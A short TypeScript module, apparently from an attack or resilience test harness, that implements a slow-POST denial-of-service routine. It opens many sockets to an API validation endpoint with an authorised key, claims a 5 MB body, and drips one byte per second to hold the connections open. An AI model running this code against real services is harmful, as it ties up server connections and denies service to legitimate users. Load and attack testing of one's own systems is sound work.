import type { Socket } from 'node:net';
import { connect } from 'node:net';
import type { Target } from '../attack.ts';

/** Opens connections that send their bodies a byte at a time; gives what closes them. */
export function openSlowly({ url, memberKey }: Target, count: number): () => void {
  const { hostname, port } = new URL(url);
  const head = [
    'POST /v1/pipes/validate HTTP/1.1',
    `host: ${hostname}`,
    `authorization: Bearer ${memberKey}`,
    'content-type: application/json',
    'content-length: 5000000',
    '\r\n',
  ].join('\r\n');
  const sockets = Array.from({ length: count }, (): Socket => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => socket.destroy());
    socket.write(head);
    return socket;
  });
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(' ');
  }, 1000);
  return () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  };
}
